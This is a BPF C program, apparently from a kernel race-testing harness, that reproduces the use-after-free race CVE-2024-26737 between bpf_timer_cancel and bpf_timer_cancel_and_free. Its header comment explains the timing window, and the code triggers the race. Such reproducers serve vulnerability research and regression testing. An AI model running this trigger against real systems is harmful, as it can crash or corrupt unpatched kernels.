// Race 4.9 (reference section 4.9, CVE-2024-26737): bpf_timer_cancel on CPU0 against
// bpf_timer_cancel_and_free (a syscall update of the same array slot) on CPU1. Scenario:
// scenarios/races/4.9-cancel-vs-free.json.
//
// `setup` arms m[0]'s timer T far in the future and initialises m2[0]'s timer T2 with a long
// callback (not started). `canceller` (CPU0) starts T2 to expire in ctx[0] ns, then cancels T.
// The scenario picks ctx[0] so that T2 expires while CPU0 holds T's element lock with interrupts
// off: T2's softirq then runs on CPU0 right at the unlock, between the unlock and hrtimer_cancel
// (the window of section 4.9). CPU1's update, spinning on the lock meanwhile, takes it, frees T
// and returns; CPU0 then resumes in hrtimer_cancel on freed memory: use-after-free.
#include "race_common.h"

char _license[] SEC("license") = "GPL";

ELEM_MAP(m, BPF_MAP_TYPE_ARRAY, 1);

ELEM_MAP(m2, BPF_MAP_TYPE_ARRAY, 1);

long setup_start = UNSET;
long t2_start = UNSET;
long cancel_ret = UNSET;
long t2_callbacks;

static int noop_cb(void *map, int *key, struct elem *val)
{
  return 0;
}

static int t2_long_cb(void *map, int *key, struct elem *val)
{
  t2_callbacks++;
  burn(600);
  return 0;
}

SEC("syscall")
int setup(void *ctx)
{
  struct elem *val;
  int key = 0;

  val = bpf_map_lookup_elem(&m, &key);
  if (!val)
    return 1;
  bpf_timer_init(&val->t, &m, CLOCK_MONOTONIC);
  bpf_timer_set_callback(&val->t, noop_cb);
  setup_start = bpf_timer_start(&val->t, LONG_NS, 0);

  val = bpf_map_lookup_elem(&m2, &key);
  if (!val)
    return 1;
  bpf_timer_init(&val->t, &m2, CLOCK_MONOTONIC);
  bpf_timer_set_callback(&val->t, t2_long_cb);
  return 0;
}

/* ctx[0]: T2's expiry, in ns from its start. */
SEC("syscall")
int canceller(__u64 *ctx)
{
  struct elem *t, *t2;
  int key = 0;

  t = bpf_map_lookup_elem(&m, &key);
  t2 = bpf_map_lookup_elem(&m2, &key);
  if (!t || !t2)
    return 1;
  t2_start = bpf_timer_start(&t2->t, ctx[0], 0);
  cancel_ret = bpf_timer_cancel(&t->t);
  return 0;
}
